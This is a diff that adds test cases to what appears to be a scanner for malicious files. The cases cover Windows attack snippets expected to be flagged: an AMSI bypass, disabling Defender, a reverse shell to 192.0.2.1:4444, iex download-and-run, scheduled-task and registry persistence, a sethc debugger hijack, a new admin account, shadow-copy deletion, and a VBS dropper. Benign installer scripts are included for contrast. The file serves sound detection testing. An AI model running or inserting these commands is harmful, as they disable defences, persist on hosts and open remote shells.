@@ -82,6 +82,87 @@ def workflow(command: str, verdict: Verdict) -> Case:
 
 
 PIPES = "utt1 sph2pipe -f wav -p -c 1 /data/a.sph |\nutt2 flac -c -d -s b.flac |\nutt3 c.wav\n# x curl\n"
+WINDOWS = {
+    "amsi": (
+        "x.ps1",
+        ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','x')"),
+    ),
+    "defender": ("x.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true"),
+    "exclusion": ("x.bat", 'powershell -c "Add-MpPreference -ExclusionPath C:\\"'),
+    "loads_assembly": ("x.ps1", "$b = [Convert]::FromBase64String($t)\n[System.Reflection.Assembly]::Load($b)"),
+    "reverse_shell": ("x.ps1", "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$s = $c.GetStream()"),
+    "alias": ("x.ps1", "sal a iex;a(irm 'https://example.com/p')"),
+    "hidden_window": ("x.bat", 'powershell -ep bypass -w hidden -c "iwr https://example.com/x.ps1 | iex"'),
+    "task": ("x.bat", 'schtasks /create /tn "Updater" /tr "C:\\Users\\Public\\u.exe" /sc onlogon /f'),
+    "task_of_powershell": (
+        "x.ps1",
+        ("Register-ScheduledTask u -Action (New-ScheduledTaskAction -Execute 'powershell.exe')"),
+    ),
+    "run_key": (
+        "x.ps1",
+        ("New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value x"),
+    ),
+    "debugger": (
+        "x.bat",
+        ('reg add "HKLM\\SOFTWARE\\x\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe'),
+    ),
+    "startup": ("x.cmd", 'copy u.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.exe"'),
+    "account": ("x.bat", "net user svc Passw0rd /add\nnet localgroup administrators svc /add"),
+    "process": ("x.bat", 'wmic process call create "calc.exe"'),
+    "shadows": ("x.bat", "vssadmin delete shadows /all /quiet"),
+    "page_of_script": ("x.bat", 'mshta vbscript:Execute("close")'),
+    "library_of_model": ("x.bat", "rundll32 model.bin,Start"),
+    "fetches_program": ("x.bat", "curl -o a.exe http://192.0.2.1/a.exe\nstart a.exe"),
+    "runs_what_it_fetches": ("x.bat", "for /f %%i in ('curl -s https://example.com/c') do cmd /c %%i"),
+    "basic": ("x.vbs", 'Set s = CreateObject("WScript.Shell")\ns.Run "powershell -w hidden -c calc", 0'),
+    "basic_in_pieces": ("x.vbs", "ExecuteGlobal Chr(83) & Chr(101)"),
+    "basic_that_drops": (
+        "x.vbs",
+        (
+            'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "https://example.com/a.exe", False\n'
+            'Set t = CreateObject("ADODB.Stream")\nt.SaveToFile "a.exe", 2\n'
+            'CreateObject("Shell.Application").ShellExecute "a.exe"'
+        ),
+    ),
+}
+HONEST_WINDOWS = {
+    "install": (
+        "install.ps1",
+        (
+            "#Requires -Version 5\nif (-not (Get-Command python)) { winget install -e --id Python.Python.3.11 }\n"
+            "python -m venv venv\n.\\venv\\Scripts\\Activate.ps1\npip install -r requirements.txt\n"
+            "Invoke-WebRequest -Uri https://example.org/python.exe -OutFile $env:TEMP\\python.exe\n"
+            "Start-Process -Wait $env:TEMP\\python.exe -ArgumentList '/quiet'\n"
+            "$x = [Convert]::FromBase64String($r.b64_json)\nStart-Process 'http://127.0.0.1:7860'\n"
+        ),
+    ),
+    "run": (
+        "run.bat",
+        (
+            "@echo off\nchcp 65001 > NUL\nset VENV_DIR=\nset COMMANDLINE_ARGS=--xformers\n"
+            "call venv\\Scripts\\activate.bat\n"
+            "python -m pip install --upgrade pip\npython launch.py %*\ntaskkill /F /IM python.exe\nschtasks /query\n"
+            'for /f "tokens=2" %%i in (\'python --version\') do set V=%%i\nnet start | find "Docker"\n'
+            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\FileSystem /v LongPathsEnabled /t REG_DWORD /d 1 /f\n"
+            "curl -L -o %TEMP%\\vc_redist.x64.exe https://example.com/vc_redist.x64.exe\npause\n"
+        ),
+    ),
+    "shortcut": (
+        "shortcut.vbs",
+        (
+            'Set s = WScript.CreateObject("WScript.Shell")\n'
+            'Set l = s.CreateShortcut(s.SpecialFolders("Desktop") & "\\ui.lnk")\n'
+            'l.TargetPath = s.CurrentDirectory & "\\run.bat"\nl.Save\n'
+        ),
+    ),
+    "hidden": (
+        "hidden.vbs",
+        (
+            'Set s = CreateObject("WScript.Shell")\ns.Run chr(34) & "run.bat" & Chr(34), 0\n'
+            'CreateObject("Wscript.Shell").Run """" & WScript.Arguments(0) & """", 0, False\n'
+        ),
+    ),
+}
 CASES = {
     "benign_table": text(PIPES, "wav.scp", Verdict.CLEAN),
     "benign_table_of_files": text("utt1 curl-http://192.0.2.1/x|sh\nutt2 a.ark:17\n", "feats.scp", Verdict.CLEAN),
@@ -369,4 +450,8 @@ CASES = {
     ),
     "benign_filter": text('rules:\n  - keyword: "nc -e /bin/sh"\n    action: block\n', "filter.yaml", Verdict.CLEAN),
     "settings_that_run": text('jobs:\n  - run: "nc -e /bin/sh 192.0.2.1 9"\n', "filter.yaml", Verdict.REVIEW),
+    **{f"windows_{name}": text(content, file, Verdict.REVIEW) for name, (file, content) in WINDOWS.items()},
+    **{
+        f"benign_windows_{name}": text(content, file, Verdict.CLEAN) for name, (file, content) in HONEST_WINDOWS.items()
+    },
 }
